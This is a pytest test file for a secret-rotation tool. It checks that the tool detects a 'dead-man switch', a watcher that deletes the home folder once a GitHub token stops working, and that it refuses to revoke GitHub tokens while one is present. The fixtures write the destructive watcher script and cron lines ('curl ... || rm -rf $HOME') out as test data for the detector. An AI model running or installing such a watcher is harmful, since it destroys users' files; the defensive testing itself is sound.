"""The dead-man switch is found on real-looking homes, and nothing else is taken for it."""

from collections.abc import Sequence
from pathlib import Path

import pytest

from tests.support.bench import World
from vault_app.core.errors import RotationError
from vault_app.services import doctor, safety
from vault_app.services.safety import Machine, Sign, SignKind, look
from vault_app.system.running import Running, processes, scheduled

UNIT = "[Unit]\nDescription={0}\n[Service]\nExecStart={1}\nRestart=always\n"
PLIST = "<plist><dict><key>Label</key><string>{0}</string></dict></plist>\n"
WATCHER = (
    "#!/bin/sh\nwhile sleep 60; do\n"
    'curl -sf -H "Authorization: token $T" https://api.github.com/user || rm -rf "$HOME"\ndone\n'
)
HARMLESS = "#!/bin/sh\ncurl -s https://api.github.com/zen\n"


def _write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def _machine(
    home: Path,
    platform: str = "linux",
    running: Sequence[Running] = (),
    jobs: Sequence[str] = (),
    **environ: str,
) -> Machine:
    return Machine(home, environ, platform, lambda: running, lambda _environ, _home: jobs)


def _signs(machine: Machine) -> set[tuple[SignKind, bool]]:
    return {(sign.kind, sign.certain) for sign in look(machine)}


@pytest.mark.parametrize(
    ("platform", "path", "text"),
    [
        pytest.param(
            "linux",
            ".config/systemd/user/gh-token-monitor.service",
            UNIT.format("gh", "%h/.local/bin/gh-token-monitor.sh"),
            id="unit of that name",
        ),
        pytest.param(
            "linux",
            ".config/systemd/user/update.service",
            UNIT.format("x", "/usr/bin/env gh-token-monitor"),
            id="unit that starts it",
        ),
        pytest.param(
            "linux",
            ".config/systemd/user/default.target.wants/gh-token-monitor.service",
            UNIT.format("x", "/bin/true"),
            id="enabled unit",
        ),
        pytest.param(
            "linux",
            ".config/autostart/com.github.token.monitor.desktop",
            "[Desktop Entry]\nExec=/bin/true\n",
            id="desktop entry",
        ),
        pytest.param(
            "darwin",
            "Library/LaunchAgents/com.user.gh-token-monitor.plist",
            PLIST.format("com.user.gh-token-monitor"),
            id="agent of that name",
        ),
        pytest.param(
            "darwin",
            "Library/LaunchAgents/com.apple.update.plist",
            PLIST.format("com.github.token.monitor"),
            id="agent with that label",
        ),
        pytest.param(
            "win32",
            "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/gh-token-monitor.cmd",
            "rem\n",
            id="startup folder",
        ),
    ],
)
def test_autostart_of_the_watcher_is_found(
    tmp_path: Path, platform: str, path: str, text: str
) -> None:
    file = _write(tmp_path / path, text)
    assert Sign(SignKind.AUTOSTART, str(file)) in look(_machine(tmp_path, platform))


def test_unit_that_asks_github_and_deletes_is_found_under_any_name(tmp_path: Path) -> None:
    script = _write(tmp_path / ".local/share/dconf/run.sh", WATCHER)
    _write(tmp_path / ".config/systemd/user/dconf.service", UNIT.format("x", script))
    assert _signs(_machine(tmp_path)) == {(SignKind.AUTOSTART, False)}


def test_script_named_below_home_by_a_specifier_is_read(tmp_path: Path) -> None:
    _write(tmp_path / "bin/run.sh", WATCHER)
    _write(tmp_path / ".config/systemd/user/a.service", UNIT.format("x", "%h/bin/run.sh"))
    assert _signs(_machine(tmp_path)) == {(SignKind.AUTOSTART, False)}


def test_configuration_folder_of_the_environment_counts(tmp_path: Path) -> None:
    _write(tmp_path / "cfg/systemd/user/gh-token-monitor.service", "")
    machine = _machine(tmp_path, XDG_CONFIG_HOME=str(tmp_path / "cfg"))
    assert (SignKind.AUTOSTART, True) in _signs(machine)


def test_file_that_lies_about_is_found(tmp_path: Path) -> None:
    _write(tmp_path / ".local/bin/gh-token-monitor.sh", WATCHER)
    assert _signs(_machine(tmp_path)) == {(SignKind.FILE, True)}


@pytest.mark.parametrize(
    ("line", "signs"),
    [
        ("* * * * * $HOME/.local/bin/gh-token-monitor.sh", {(SignKind.SCHEDULED, True)}),
        (
            "* * * * * curl -f api.github.com/user || rm -rf ~",
            {(SignKind.SCHEDULED, False)},
        ),
        ("# gh-token-monitor was here", set()),
        ("0 3 * * * rm -rf ~/.cache/thumbnails", set()),
    ],
)
def test_scheduled_jobs_are_looked_through(
    tmp_path: Path, line: str, signs: set[tuple[SignKind, bool]]
) -> None:
    assert _signs(_machine(tmp_path, jobs=["MAILTO=ada", line])) == signs


@pytest.mark.parametrize(
    ("running", "found"),
    [
        (Running(7, "gh-token-monitor", ""), True),
        (Running(7, "bash", "gh-token-monitor.sh"), True),
        (Running(7, "python3", "gh_token_monitor.py"), True),
        (Running(7, "vim", "gh-token-monitor.service"), False),
        (Running(7, "bash", "build.sh"), False),
    ],
)
def test_process_is_found_by_its_program_or_script(
    tmp_path: Path, running: Running, found: bool
) -> None:
    assert bool(look(_machine(tmp_path, running=[running]))) is found


def test_ordinary_home_is_clean(tmp_path: Path) -> None:
    script = _write(tmp_path / "bin/zen.sh", HARMLESS)
    _write(tmp_path / ".config/systemd/user/zen.service", UNIT.format("zen", script))
    _write(
        tmp_path / ".config/autostart/clean.desktop", "[Desktop Entry]\nExec=rm -rf ~/.cache/x\n"
    )
    _write(tmp_path / "src/notes-on-gh-token-monitor.md", "how to remove it")
    _write(tmp_path / ".bashrc", "alias ghapi='curl https://api.github.com'\n")
    assert look(_machine(tmp_path)) == ()


def test_unreadable_and_odd_entries_are_passed_by(tmp_path: Path) -> None:
    folder = tmp_path / ".config/systemd/user"
    _write(folder / "binary.service", "").write_bytes(b"\xff\x00" * 10)
    (folder / "dangling.service").symlink_to(tmp_path / "nothing")
    (folder / "sub.service.d").mkdir()
    assert look(_machine(tmp_path)) == ()


def test_name_of_a_sign_is_made_safe(tmp_path: Path) -> None:
    """H29."""
    _write(tmp_path / ".config/autostart/gh-token-monitor\x1b[31m.desktop", "")
    assert all("\x1b" not in sign.where for sign in look(_machine(tmp_path)))


def test_revoking_a_github_token_is_refused_and_its_plan_warns(world: World) -> None:
    """H12: the check runs before any revoke; what was typed is in test_watcher_override."""
    assert safety.notes(world.bench, "github") == ()
    world.write(".config/systemd/user/gh-token-monitor.service", "")
    (note,) = safety.notes(world.bench, "github")
    assert note.code == "dead_man_switch"
    with pytest.raises(RotationError, match="dead_man_switch"):
        safety.refuse_dead_man_switch(world.bench, "github")


def test_other_providers_are_not_held_up(world: World) -> None:
    world.write(".config/systemd/user/gh-token-monitor.service", "")
    assert safety.notes(world.bench, "huggingface") == ()
    safety.refuse_dead_man_switch(world.bench, "huggingface")


def test_doctor_tells_of_it(world: World) -> None:
    def code() -> str:
        return next(one.code for one in doctor.examine(world.bench) if one.topic == "safety")

    assert code() == "no_dead_man_switch"
    world.write(".local/bin/run.sh", WATCHER)
    world.write(".config/systemd/user/a.service", UNIT.format("x", "%h/.local/bin/run.sh"))
    assert code() == "dead_man_switch_maybe"
    world.write(".config/systemd/user/gh-token-monitor.service", "")
    assert code() == "dead_man_switch"


def test_processes_are_listed_by_file_names_alone() -> None:
    """Arguments can hold secrets."""
    assert all("/" not in one.program + one.argument for one in processes())


def test_scheduled_jobs_come_from_crontab(tmp_path: Path) -> None:
    program = _write(tmp_path / "bin/crontab", '#!/bin/sh\necho "0 1 * * * job $1"\n')
    program.chmod(0o755)
    found = scheduled({"PATH": f"{program.parent}:/bin:/usr/bin"}, tmp_path)
    assert found == ("0 1 * * * job -l",)
    assert scheduled({"PATH": str(tmp_path)}, tmp_path) == ()
